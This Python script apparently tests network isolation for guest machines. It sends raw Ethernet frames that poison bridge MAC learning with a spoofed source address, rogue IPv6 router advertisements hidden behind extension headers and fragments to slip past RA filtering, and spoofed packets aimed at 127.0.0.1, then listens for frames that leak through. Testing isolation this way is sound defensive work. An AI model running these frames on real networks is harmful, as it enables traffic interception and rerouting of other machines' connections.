"""Frames that no honest guest sends, and who hears them.

frames.py poison MAC            link-local control frames (IEEE 802.1D, table 7-10) with somebody else's source MAC: a
                                bridge that learns from them sends that machine's traffic here
frames.py hears ADDRESS         succeeds when a frame to somebody else's ADDRESS comes in within a second
frames.py routers               router advertisements, plain and behind what may hide them; each names a prefix of its
                                own, 2001:db8:bad1::/64 and so on
frames.py loopback FROM MAC     to 127.0.0.1 and to a port of it that leads elsewhere, by way of that MAC
"""

import socket, struct, sys, time

ETH_P_ALL = 3


def card():
    packet = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(ETH_P_ALL))
    packet.bind(("eth0", ETH_P_ALL))
    return packet


def mac(text):
    return bytes.fromhex(text.replace(":", ""))


def checksum(data):
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


def advertisement(own_mac, number):
    """An RA of a prefix, and the IPv6 addresses it goes between."""
    prefix = socket.inet_pton(socket.AF_INET6, f"2001:db8:bad{number}::")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0)
    body += struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 3600, 3600, 0) + prefix
    body += struct.pack("!BB", 1, 1) + own_mac
    own = bytes.fromhex("fe80000000000000") + bytes([own_mac[0] ^ 2]) + own_mac[1:3] + b"\xff\xfe" + own_mac[3:]
    all_nodes = socket.inet_pton(socket.AF_INET6, "ff02::1")
    sum_of = checksum(own + all_nodes + struct.pack("!II", len(body), 58) + body)
    return own, all_nodes, body[:2] + struct.pack("!H", sum_of) + body[4:]


def routers(out):
    own_mac = out.getsockname()[4]
    padding = bytes([0, 1, 4, 0, 0, 0, 0])      # after "next header": no further length, PadN
    for number in range(1, 6):
        own, all_nodes, body = advertisement(own_mac, number)
        identity = struct.pack("!I", number)
        match number:
            case 1:
                packets = [(58, body)]
            case 2:     # hop-by-hop options
                packets = [(0, bytes([58]) + padding + body)]
            case 3:     # destination options, twice
                packets = [(60, bytes([60]) + padding + bytes([58]) + padding + body)]
            case 4:     # a fragment that is the whole
                packets = [(44, bytes([58, 0, 0, 0]) + identity + body)]
            case 5:     # fragments, the first without the header that tells what it is
                packets = [
                    (44, bytes([60, 0, 0, 1]) + identity + bytes([58]) + padding),
                    (44, bytes([60, 0, 0, 8]) + identity + body),
                ]
        for header, payload in packets:
            ip = struct.pack("!IHBB", 6 << 28, len(payload), header, 255) + own + all_nodes
            out.send(bytes.fromhex("333300000001") + own_mac + b"\x86\xdd" + ip + payload)


def loopback(out, source, gateway):
    for port in (53, 8081):
        udp = struct.pack("!HHHH", 4000, port, 12, 0) + b"hey!"
        ip = struct.pack("!BBHHHBBH", 0x45, 0, 20 + len(udp), 1, 0, 64, 17, 0)
        ip += socket.inet_aton(source) + socket.inet_aton("127.0.0.1")
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        out.send(mac(gateway) + out.getsockname()[4] + b"\x08\x00" + ip + udp)


what, *rest = sys.argv[1:]
if what == "poison":
    source = mac(rest[0])
    with_type = [0x88CC, 0x888E, 0x8809, 0x88F5, 0x0800, 0x9000]
    out = card()
    for _ in range(3):
        for last in range(16):
            destination = bytes.fromhex("0180c20000") + bytes([last])
            for kind in with_type:
                out.send(destination + source + struct.pack("!H", kind) + bytes(46))
            # 802.2, as spanning tree speaks it.
            out.send(destination + source + struct.pack("!H", 38) + bytes.fromhex("424203") + bytes(43))
        time.sleep(0.05)
elif what == "routers":
    routers(card())
elif what == "loopback":
    loopback(card(), *rest)
elif what == "hears":
    address = rest[0]
    packed = socket.inet_pton(socket.AF_INET6 if ":" in address else socket.AF_INET, address)
    heard = card()
    until = time.monotonic() + 1
    while (left := until - time.monotonic()) > 0:
        heard.settimeout(left)
        try:
            frame, origin = heard.recvfrom(2000)
        except TimeoutError:
            break
        outgoing = origin[2] == socket.PACKET_OUTGOING
        ip = frame[12:14] in (b"\x08\x00", b"\x86\xdd")
        if ip and not outgoing and frame[0] & 1 == 0 and packed in frame[14:54]:
            print(f"heard {frame[:54].hex()}")
            sys.exit(0)
    sys.exit("heard nothing")
